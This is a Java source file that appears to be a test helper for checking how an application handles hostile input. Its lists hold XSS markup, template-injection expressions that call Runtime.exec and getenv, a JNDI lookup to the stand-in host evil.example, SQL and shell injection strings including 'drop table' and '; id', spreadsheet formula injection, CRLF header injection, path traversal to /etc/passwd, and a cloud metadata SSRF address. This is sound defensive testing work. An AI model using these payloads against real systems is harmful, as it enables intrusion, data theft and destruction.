package dev.tiphys.hostile;

import java.util.ArrayList;
import java.util.List;

/// Texts that mean harm to whoever takes them for something else than text.
final class Payloads {

    /// Appears as an element only where markup was let through.
    static final String ELEMENT = "tiphys-canary";
    /// Appears as a header only where a line break was let through.
    static final String HEADER = "Tiphys-Canary";
    /// No answer may lead there.
    static final String HOST = "evil.example";
    /// The product of the numbers in the expressions.
    static final String COMPUTED = Integer.toString(31_337 * 1_337);

    private Payloads() {
    }

    static List<String> all() {
        List<String> all = new ArrayList<>();
        all.addAll(markup());
        all.addAll(expressions());
        all.addAll(queries());
        all.addAll(lines());
        all.addAll(letters());
        all.addAll(numbers());
        all.addAll(places());
        return List.copyOf(all);
    }

    /// What a browser would run.
    static List<String> markup() {
        String run = "window.tiphysCanary=1";
        return List.of("<" + ELEMENT + ">", "\"><" + ELEMENT + ">", "'><script>" + run + "</script>",
                "</title></textarea></style><script>" + run + "</script>", "<img src=x onerror=" + run + ">",
                "\" autofocus onfocus=\"" + run, "' onmouseover='" + run + "' x='", "` onclick=" + run + " x=`",
                "<svg/onload=" + run + ">", "javascript:" + run, "JaVa\tScRiPt:" + run,
                "data:text/html,<script>" + run + "</script>", "<iframe srcdoc='<script>" + run + "</script>'>",
                "--><" + ELEMENT + ">", "]]><" + ELEMENT + ">", "<style>@import'//" + HOST + "'</style>",
                "&lt;script&gt;" + run + "&lt;/script&gt;", "&#60;" + ELEMENT + "&#62;",
                "\\u003c" + ELEMENT + "\\u003e",
                "<a href=\"javascript:" + run + "\">x</a>", "<div hx-on:click=\"" + run + "\" hx-get=//" + HOST + ">",
                "<math><mtext></mtext><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=" + run
                        + "&gt;\">",
                "<base href=//" + HOST + "/>", "<meta http-equiv=refresh content=0;url=//" + HOST + ">",
                "\uFF1C" + ELEMENT + "\uFF1E");
    }

    /// What a template engine would compute.
    static List<String> expressions() {
        String product = "31337*1337";
        return List.of("${" + product + "}", "*{" + product + "}", "#{" + product + "}", "[[${" + product + "}]]",
                "[(${" + product + "})]", "__${" + product + "}__::.x", "__*{" + product + "}__", "{{" + product + "}}",
                "{{= " + product + " }}", "#{T(java.lang.Runtime).getRuntime().exec('x')}",
                "${T(java.lang.System).getenv()}", "__${new java.util.Scanner(T(java.lang.Runtime))}__::.x",
                "~{layout/page :: page}", "th:text=${" + product + "}", "%{" + product + "}", "<%= " + product + " %>",
                "{{workflow.parameters.x}}", "${jndi:ldap://" + HOST + "/a}", "fragment :: main", "redirect:http://"
                        + HOST,
                "forward:/actuator/env");
    }

    /// What a database or a shell would run, and what a spreadsheet would.
    static List<String> queries() {
        return List.of("' or '1'='1", "'; drop table promotion; --", "\\'; select pg_sleep(3); --", "1 union select 1",
                "%", "_%_", "\\", "%\\%_", "\" or \"\"=\"", "$$; select 1; $$", ":name ?1 ?", "{fn now()}",
                "$(id)", "`id`", "; id", "| id", "=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(1)", "\t=1+1",
                "{\"$gt\": \"\"}", "*)(uid=*", "label in (a,b", "a=b,!c,c notin (", "!!!,,,===");
    }

    /// What would end a line of a header, a log or a message.
    static List<String> lines() {
        return List.of("a\r\n" + HEADER + ": 1", "a\n" + HEADER + ": 1", "a\r" + HEADER + ": 1",
                "a%0d%0a" + HEADER + ": 1", "a\u0085" + HEADER + ": 1", "a\u2028" + HEADER + ": 1",
                "\r\n\r\n<" + ELEMENT + ">", "a\u0000b", "\u0000", "a\u001b[31mb", "a\u0008b", "a\u007fb",
                "\u000b\u000c");
    }

    /// Letters that are not what they look like, or nothing at all.
    static List<String> letters() {
        return List.of("\u202Etxt.exe", "a\u200Bb\u200C\u200D\uFEFF", "e\u0301\u0301\u0301".repeat(40),
                "\uD83D\uDC69\u200D\uD83D\uDE80", "\uFFFE\uFFFF", "\u0130\u0131\u1E9E\uFB01", "",
                " ", "\u00A0\u3000", "A".repeat(3_000), "\u4E2D".repeat(600), "a,b,,c,", "null", "undefined", "NaN",
                "true", "[]", "{}", "\uD835\uDD38dmin", "admin\u0000", ".", "..", "-", "--help");
    }

    /// Numbers, dates and sizes out of all bounds.
    static List<String> numbers() {
        return List.of("-1", "0", "2147483647", "2147483648", "-2147483649", "9223372036854775807",
                "9223372036854775808", "1e309", "0x10", "1.5", "١٢٣", "0000000001", "999999999999999999999999",
                "+1", "-999999999-01-01T00:00:00Z", "+999999999-12-31T23:59:59.999999999Z", "2026-02-30",
                "2026-11-27T25:61:61Z", "P999999999D", "PT-1S", "0197a000-0000-7000-8000-000000000000",
                "00000000-0000-0000-0000-000000000000", "0197a000-0000-7000-8000-00000000000g");
    }

    /// Addresses and paths that lead elsewhere.
    static List<String> places() {
        return List.of("//" + HOST, "/\\" + HOST, "https://" + HOST, "https:" + HOST, "/\t/" + HOST, "\\\\" + HOST,
                "http:/" + HOST, "//" + HOST + "/%2e%2e", "/..//" + HOST, "https://localhost@" + HOST, "///" + HOST,
                "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "/etc/passwd%00.html", "....//....//etc/passwd",
                "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", "classpath:application.yaml",
                "C:\\windows\\win.ini", "%2e%2e/%2e%2e");
    }
}
